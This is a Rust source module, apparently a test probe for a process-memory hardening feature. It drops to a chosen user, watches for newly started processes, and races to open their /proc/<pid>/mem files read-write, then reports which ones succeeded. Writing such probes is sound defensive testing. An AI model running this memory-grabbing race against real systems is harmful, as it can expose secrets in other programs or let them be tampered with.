//! Another process that wants the memory of programs that start: from their exec on, before their
//! dataplane can have said that no process of their user may open it.
use crate::call;
use std::collections::BTreeSet;
use std::ffi::CString;
use std::fs::{self, OpenOptions};
use std::time::{Duration, Instant};

/// How long a process is young.
const YOUNG: Duration = Duration::from_secs(5);

/// As this user and group opens the memory of young processes of that user's or of anybody's, as
/// fast as it can, until the file is there. Prints how many it has looked at, and of which it has
/// the memory.
pub fn attack(user: u64, until: &str) -> Result<(), String> {
    call(libc::SYS_setgroups, [0; 6])?;
    call(libc::SYS_setresgid, [user, user, user, 0, 0, 0])?;
    call(libc::SYS_setresuid, [user, user, user, 0, 0, 0])?;
    let path = CString::new(until).map_err(|e| e.to_string())?;
    let is_over = || call(libc::SYS_access, [path.as_ptr() as u64, 0, 0, 0, 0, 0]).is_ok();
    let (mut young, mut last) = (Vec::new(), newest()?);
    let (mut tried, mut had) = (BTreeSet::new(), BTreeSet::new());
    println!("opens");
    while !is_over() {
        let now = newest()?;
        young.extend((last + 1..=now).map(|process| (process, Instant::now())));
        last = now;
        young.retain(|(_, since)| since.elapsed() < YOUNG);
        for (process, _) in &young {
            let folder = format!("/proc/{process}");
            if !fs::exists(&folder).unwrap_or(false) {
                continue;
            }
            tried.insert(*process);
            let memory = OpenOptions::new().read(true).write(true).open(format!("{folder}/mem"));
            if memory.is_ok() {
                let name = fs::read_to_string(format!("{folder}/comm")).unwrap_or_default();
                had.insert((*process, name.trim().to_owned()));
            }
        }
    }
    println!("{} processes tried; memory of {}: {had:?}", tried.len(), had.len());
    Ok(())
}

/// The number that Linux gave last.
fn newest() -> Result<u32, String> {
    let text = fs::read_to_string("/proc/loadavg").map_err(|e| e.to_string())?;
    let number = text.split_whitespace().nth(4).and_then(|word| word.parse().ok());
    number.ok_or(format!("no process in {text}"))
}
